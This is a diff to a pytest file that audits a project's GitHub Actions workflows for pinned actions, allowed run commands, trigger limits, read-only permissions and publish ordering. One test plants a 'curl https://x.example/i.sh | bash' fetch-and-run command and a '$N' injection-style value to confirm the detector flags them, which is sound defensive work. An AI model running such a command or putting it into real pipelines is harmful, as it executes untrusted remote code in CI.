@@ -27,6 +27,7 @@ createLinter().then((lint) => {
 });
 """
 USES = re.compile(r"^\s*(?:- )?uses: (.*)$", re.MULTILINE)
+OURS = "./.github/workflows/test.yml "
 BY_COMMIT = re.compile(r"[\w.-]+/[\w./-]+@[0-9a-f]{40} # v\d+(\.\d+)*")
 
 
@@ -54,7 +55,11 @@ def actionlint(*paths: Path) -> str:
 
 def pinned_otherwise(workflow: str) -> list[str]:
     """The actions that a workflow does not take by their commit, with a version."""
-    return [used for used in USES.findall(workflow) if not BY_COMMIT.fullmatch(used)]
+    return [
+        used
+        for used in USES.findall(workflow)
+        if not BY_COMMIT.fullmatch(used) and not used.startswith(OURS)
+    ]
 
 
 BAD = """\
@@ -142,6 +147,59 @@ def test_a_workflow_may_little_and_not_for_long(path: Path) -> None:
     checkouts = text.count("actions/checkout@")
     assert text.count("persist-credentials: false") == checkouts
     assert text.count("timeout-minutes:") == text.count("runs-on:")
+
+
+# What a workflow may run besides `make`.
+ALSO = {
+    ".venv/bin/python -m pip install properdocs",
+    ".venv/bin/python -m properdocs build --strict --config-file mkdocs.yml"
+    " --site-dir out/properdocs",
+}
+
+
+def run_otherwise(workflow: str) -> list[str]:
+    """What a workflow runs that is no target of the Makefile, nor named above."""
+    jobs = yaml.safe_load(workflow)["jobs"].values()
+    steps = [step for job in jobs for step in job.get("steps", ())]
+    run = [step["run"] for step in steps if "run" in step]
+    make = re.compile(r"make [a-z]+( ARGS=--[a-z]+)?")
+    return [one for one in run if not make.fullmatch(one) and one not in ALSO]
+
+
+@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
+def test_a_workflow_runs_make_and_little_else(path: Path) -> None:
+    assert run_otherwise(path.read_text()) == []
+
+
+@pytest.mark.parametrize(
+    "planted",
+    ["curl https://x.example/i.sh | bash", 'make run NAME="$N"', "make test || true"],
+)
+def test_another_command_in_a_workflow_is_seen(planted: str) -> None:
+    text = (GITHUB / "workflows" / "test.yml").read_text()
+    assert run_otherwise(text.replace("make check", planted)) == [planted]
+
+
+def test_strangers_start_what_holds_no_secret() -> None:
+    for path in WORKFLOWS:
+        workflow = yaml.safe_load(path.read_text())
+        started = set(workflow[True])  # YAML 1.1 reads the key `on` as true
+        fine = {"pull_request", "push", "schedule", "workflow_dispatch"}
+        assert started <= fine | {"workflow_call"}, path
+        assert "secrets" not in path.read_text(), path
+        if "pull_request" in started:
+            for job in workflow["jobs"].values():
+                assert job["permissions"] == {"contents": "read"}
+
+
+def test_what_is_published_was_tested() -> None:
+    workflow = yaml.safe_load((GITHUB / "workflows" / "publish.yml").read_text())
+    test, build, publish = workflow["jobs"].values()
+    assert test["uses"] == OURS.strip()
+    assert (build["needs"], publish["needs"]) == ("test", "build")
+    # Neither is started in spite of a failure, nor from another commit.
+    assert not any({"if", "continue-on-error"} & set(job) for job in (build, publish))
+    assert "ref" not in build["steps"][0]["with"]
 
 
 def test_a_pull_request_hears_of_its_records_first() -> None:
